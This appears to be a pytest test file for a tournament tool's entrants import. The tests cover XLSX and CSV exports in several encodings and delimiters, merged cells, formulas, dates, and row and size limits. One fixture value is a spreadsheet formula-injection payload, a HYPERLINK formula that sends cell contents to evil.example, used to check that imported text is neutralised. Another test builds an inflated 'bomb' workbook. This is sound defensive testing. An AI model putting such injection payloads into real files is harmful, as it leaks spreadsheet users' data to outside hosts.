"""`tabletimer entrants import DIR FILE` (hub/event/folder/entrant_import.py,
hub/cli/entrants.py): a registration form's export as XLSX (made here with
openpyxl) or CSV in the dialects spreadsheet programs write, read through
entrants.csv's own checks, previewed, and written only when all is well;
each bad input refused with its row, and nothing written."""

from __future__ import annotations

import codecs
import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tabletimer.hub.cli import main as cli
from tabletimer.hub.event.folder import csv_table, entrant_import, event_folder

CZECH = [("1", "Jiří Dvořák", "ano"), ("2", "Věra Černá", "ne"), ("3", "Tomáš Šťastný", "ano"),
         ("4", "Žaneta Růžičková", "ano")]
NORSK = [("1", "Bjørn Ås", "ja"), ("2", "Kari Nordmann", "nei"), ("3", "Ærlig Sørensen", "ja")]


@pytest.fixture
def hall(tmp_path) -> Path:
    """A new event of Czech individuals (prizes for eligible entrants:
    the eligible column is needed), with init's example files."""
    return event_folder.init(tmp_path / "hall", "czjpa-individuals", "Hall Cup")


def files_of(hall: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(hall.iterdir()) if p.is_file()}


def imported(hall: Path, capsys, *args: str) -> tuple[int, str, str]:
    rc = cli.main(["entrants", "import", str(hall), *args])
    out = capsys.readouterr()
    return rc, out.out, out.err


def refused(hall: Path, capsys, file: Path, *args: str) -> str:
    """The import of file refused: exit 2, every file of the folder as it
    was (no temporary one left); its error text."""
    before = files_of(hall)
    rc, out, err = imported(hall, capsys, str(file), *args)
    assert rc == 2, (out, err)
    assert files_of(hall) == before
    assert "error: " in err
    return err


def xlsx(path: Path, rows, first_sheet_rows=None, merge: str | None = None) -> Path:
    """A workbook of the rows (a text "'=..." is the text "=...", as a
    spreadsheet keeps a typed '=...; any other "=..." a formula)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    if first_sheet_rows is not None:             # an empty (or other) first sheet, the entrants second
        ws.title = "Instructions"
        for r in first_sheet_rows:
            ws.append(r)
        ws = wb.create_sheet("Registrations")
    for r in rows:
        ws.append(r)
    if merge:
        ws.merge_cells(merge)
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith("'="):
                c.value = c.value[1:]
                c.data_type = "s"
    wb.save(path)
    return path


def patched(path: Path, old: str, new: str) -> Path:
    """The workbook with a text of its XML parts replaced."""
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n).decode() for n in z.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data.replace(old, new))
    return path


def with_saved_value(path: Path, cell: str, value: str) -> Path:
    """A formula cell given the value a spreadsheet program saves with it
    (openpyxl writes formulas without one)."""
    part = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    xml = parts[part].decode()
    xml, n = re.subn(rf'<c r="{cell}"><f>(.*?)</f><v ?/>(</v>)?</c>',
                     lambda m: f'<c r="{cell}" t="str"><f>{m.group(1)}</f><v>{value}</v></c>', xml)
    assert n == 1
    parts[part] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


# ---------------------------------------------------------------------- XLSX

def test_an_xlsx_export_is_previewed_and_written_as_the_rounds_entrants(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "form.xlsx", [
        [],                                                       # an empty row above the header
        ["ID", "Name", "Eligible", "Notes"],
        [1, "Jiří Dvořák", True, "vegetarian"],
        [2.0, "=\"Věra\"&\" Černá\"", False, None],                # a formula with its saved value
        [],
        [3, "'" + GUEST, "ano", "'=1+1"],                         # text a spreadsheet would run
        [None, None, None, None, None],                           # formatted, empty
    ])
    with_saved_value(book, "B4", "Věra Černá")
    before = files_of(hall)
    rc, out, err = imported(hall, capsys, str(book), "--dry-run")
    assert rc == 0 and files_of(hall) == before
    assert f"{book}: XLSX, sheet 'Sheet'; 3 entrant(s) for round main:" in out
    lines = out.splitlines()[1:]
    assert lines[0].split() == ["row", "id", "name", "eligible", "notes"]
    assert lines[1].split() == ["3", "1", "Jiří", "Dvořák", "yes", "vegetarian"]     # the sheet's row numbers
    assert lines[2].split() == ["4", "2", "Věra", "Černá", "no"]
    assert lines[3].startswith("  6    3   =HYPERLINK(")
    assert "note: 1 cell(s) hold a formula: read as the values the spreadsheet saved" in err
    assert "dry run: nothing written" in err
    rc, out, err = imported(hall, capsys, str(book), "--clear-stations")
    assert rc == 0 and f"wrote 3 entrant(s) to {hall / 'entrants.csv'}" in err
    text = (hall / "entrants.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(f'"{c}"' for c in event_folder.ENTRANT_COLUMNS)   # every column, empty ones too
    assert "\"'=HYPERLINK(" in text and "\"'=1+1\"" in text                   # neutralised as written
    entrants, _ = event_folder.load_entrants(hall / "entrants.csv", event_folder.load(hall).format)
    assert [(e.id, e.name, e.eligible) for e in entrants] == [
        ("1", "Jiří Dvořák", True), ("2", "Věra Černá", False), ("3", GUEST, True)]
    assert (hall / "stations.csv").read_text() == "board,button,table,entrant,puzzle\n"


GUEST = '=HYPERLINK("http://evil.example/?x="&A1;"click")'


def test_an_xlsx_with_merged_cells_is_refused_with_its_row(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "merged.xlsx", [["id", "name", "eligible"], [1, "Jana", "yes"], [2, "Petr", "yes"],
                                           [3, None, "yes"]], merge="B3:B4")
    err = refused(hall, capsys, book)
    assert f"{book}:3: merged cells B3:B4" in err and "unmerge them" in err and "nothing written" in err


def test_an_xlsx_formula_without_a_saved_value_or_with_an_error_is_refused(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "formula.xlsx", [["id", "name", "eligible"], [1, "Jana", "yes"],
                                            [2, "=CONCAT(\"Pe\",\"tr\")", "yes"]])
    err = refused(hall, capsys, book)
    assert f"{book}:3: column B (name): a formula (=CONCAT(\"Pe\",\"tr\")) with no value saved" in err
    broken = with_saved_value(xlsx(tmp_path / "ref.xlsx", [["id", "name", "eligible"], [1, "=#REF!", "yes"]]),
                              "B2", "#REF!")
    patched(broken, 't="str"', 't="e"')                # a spreadsheet saves an error value as t="e"
    err = refused(hall, capsys, broken)
    assert f"{broken}:2: column B (name): the error #REF! where a value should be" in err


def test_an_xlsx_whose_first_sheet_is_empty_is_refused_naming_the_sheets(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "second.xlsx", [["id", "name", "eligible"], [1, "Jana", "yes"]], first_sheet_rows=[])
    err = refused(hall, capsys, book)
    assert (f"{book}: the first sheet, 'Instructions', is empty (the workbook's sheets: Instructions, "
            f"Registrations: move the entrants' sheet first)") in err


def test_dates_where_names_should_be_are_refused_with_their_row(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "dates.xlsx", [["id", "name", "eligible"], [1, "Jana", "yes"],
                                          [2, dt.datetime(2027, 3, 5), "yes"]])
    err = refused(hall, capsys, book)
    assert f"{book}:3: column B (name): a date or time (2027-03-05 00:00:00) where a text should be" in err
    assert "format the column as text" in err
    times = xlsx(tmp_path / "times.xlsx", [["id", "name", "eligible"], [dt.time(1, 2), "Jana", "yes"]])
    assert f"{times}:2: column A (id): a date or time (01:02:00)" in refused(hall, capsys, times)


def test_an_xlsx_row_wrong_by_entrants_csvs_rules_names_the_sheets_row(hall, tmp_path, capsys):
    book = xlsx(tmp_path / "dup.xlsx", [["id", "name", "eligible"], [], [1, "Jana", "yes"], [1, "Petr", "yes"]])
    assert f"{book}:4: id '1' already used on line 3" in refused(hall, capsys, book)
    nocol = xlsx(tmp_path / "nocol.xlsx", [["id", "name", "e-mail"], [1, "Jana", "j@example.org"]])
    assert f"{nocol}:1: unknown column(s) e-mail; expected id, name, kind, members, eligible, notes" in refused(
        hall, capsys, nocol)


# ----------------------------------------------------------------------- CSV

def test_a_czech_csv_in_cp1250_with_semicolons_is_read_right_and_says_so(hall, tmp_path, capsys):
    f = tmp_path / "registrace.csv"
    f.write_bytes(("id;name;eligible\r\n" + "".join(f"{i};{n};{e}\r\n" for i, n, e in CZECH)).encode("cp1250"))
    rc, out, err = imported(hall, capsys, str(f), "--clear-stations")
    assert rc == 0, err
    assert "CSV, semicolon separated, Windows-1250 (Central European: Czech): not UTF-8" in out
    assert "Žaneta Růžičková" in out
    entrants, _ = event_folder.load_entrants(hall / "entrants.csv", event_folder.load(hall).format)
    assert [(e.id, e.name, e.eligible) for e in entrants] == [(i, n, e == "ano") for i, n, e in CZECH]


@pytest.mark.parametrize("encoding,data,said", [
    ("cp1252", NORSK, "Windows-1252 (Western European: Danish, Norwegian)"),
    ("cp1250", CZECH, "Windows-1250 (Central European: Czech)"),
    ("utf-8-sig", CZECH, "UTF-8 (with a byte order mark)"),
    ("utf-8", NORSK, "UTF-8"),
    ("utf-16", NORSK, "UTF-16 (Excel's Unicode text)"),
])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_dialects_spreadsheet_programs_write(encoding, data, said, delimiter):
    text = delimiter.join(("id", "name", "eligible")) + "\r\n" + "".join(
        delimiter.join(r) + "\r\n" for r in data)
    got, used = entrant_import.decode(text.encode(encoding))
    assert got == text and used.startswith(said)
    assert csv_table.sniff_delimiter(got) == delimiter


def test_the_code_page_is_given_when_the_guess_is_wrong(hall, tmp_path, capsys):
    f = tmp_path / "bjorn.csv"
    f.write_bytes("id,name,eligible\n1,Bjørn Ås,ja\n".encode("cp1252"))
    rc, out, _ = imported(hall, capsys, str(f), "--dry-run", "--encoding", "cp1250")
    assert rc == 0 and "cp1250 (as asked)" in out and "Bjřrn Ĺs" in out
    rc, out, _ = imported(hall, capsys, str(f), "--dry-run")
    assert rc == 0 and "Bjørn Ås" in out and "--encoding cp1250" in out
    assert "no encoding 'latin-9x'" in refused(hall, capsys, f, "--encoding", "latin-9x")


# ---------------------------------------------------------------- the limits

def test_a_file_of_100000_rows_is_refused(hall, tmp_path, capsys):
    f = tmp_path / "big.csv"
    f.write_text("id,name,eligible\n" + "".join(f"{i},N{i},yes\n" for i in range(100_000)))
    assert f"{f}: more than 10000 rows; an entrants file has at most 10000" in refused(hall, capsys, f)
    row = '<row r="2"><c r="A2" t="n"><v>1</v></c><c r="B2" t="inlineStr"><is><t>N1</t></is></c></row>'
    book = xlsx(tmp_path / "big.xlsx", [["id", "name", "eligible"], [1, "N1"]])
    many = "".join(row.replace('"2"', f'"{n}"').replace("A2", f"A{n}").replace("B2", f"B{n}")
                   for n in range(2, 100_002))
    xml = zipfile.ZipFile(book).read("xl/worksheets/sheet1.xml").decode()
    assert row in xml
    patched(book, row, many)
    assert f"{book}: more than 10000 rows (100001 in the first sheet, 'Sheet')" in refused(hall, capsys, book)


def test_a_10_mb_cell_is_refused_before_it_is_parsed_or_with_its_row(hall, tmp_path, capsys):
    f = tmp_path / "cell.csv"
    f.write_text("id,name,eligible\n1," + "x" * 10 * 2**20 + ",yes\n")
    assert f"{f}: 10.0 MB; an entrants file is at most 8 MB" in refused(hall, capsys, f)
    book = patched(xlsx(tmp_path / "cell.xlsx", [["id", "name", "eligible"], [1, "Jana", "yes"],
                                                 [2, "LONG", "yes"]]), "LONG", "x" * 10 * 2**20)
    assert book.stat().st_size < 2**20                          # compressed: under the file's limit
    assert f"{book}:3: a cell of 10485760 characters; a cell holds at most 500" in refused(hall, capsys, book)
    zipped = tmp_path / "bomb.xlsx"                              # unpacks past MAX_UNPACKED: never parsed
    with zipfile.ZipFile(book) as z, zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as out:
        for n in z.namelist():
            out.writestr(n, z.read(n) * (4 if n.endswith("sharedStrings.xml") or n.endswith("sheet1.xml") else 1))
    assert f"{zipped}: unpacks to" in refused(hall, capsys, zipped)


# ------------------------------------------------------------ what it writes

def test_a_round_with_a_log_or_stations_of_others_keeps_its_files(hall, tmp_path, capsys):
    f = tmp_path / "ok.csv"
    f.write_text("id,name,eligible\nA,Jana,yes\n", encoding="utf-8")
    err = refused(hall, capsys, f)                    # init's stations.csv seats entrant 1
    assert "no entrant '1' in entrants.csv" in err and "--clear-stations" in err
    (hall / "events.sqlite").write_bytes(b"")
    assert "this round has been run" in refused(hall, capsys, f, "--clear-stations")
    (hall / "events.sqlite").unlink()
    same = tmp_path / "same.csv"
    same.write_text("id,name,eligible\n1,Jana,yes\n2,Petr,no\n", encoding="utf-8")
    stations = (hall / "stations.csv").read_bytes()
    rc, _, err = imported(hall, capsys, str(same))
    assert rc == 0 and (hall / "stations.csv").read_bytes() == stations           # seats kept: same ids
    assert [e.name for e in event_folder.load(hall).entrants] == ["Jana", "Petr"]


def test_an_import_into_a_named_round(tmp_path, capsys):
    hall = tmp_path / "day"
    event_folder.add_round(hall, "pairs", "czjpa-pairs", "Day")
    event_folder.add_round(hall, "indiv", "czjpa-individuals")
    f = xlsx(tmp_path / "pairs.xlsx", [["id", "name", "kind", "members", "eligible"],
                                       ["P1", "The Edges", "pair", "Anna|Ben", "yes|no"]])
    rc, out, err = imported(hall, capsys, str(f), "--round", "pairs")
    assert rc == 0 and "for round pairs" in out, err
    ev = event_folder.load(hall, "pairs")
    assert [(e.id, [m.name for m in e.members]) for e in ev.entrants] == [("P1", ["Anna", "Ben"])]
    assert codecs.BOM_UTF8 not in (hall / "rounds" / "pairs" / "entrants.csv").read_bytes()
    assert "has no round 'teams'" in refused(hall, capsys, f, "--round", "teams")
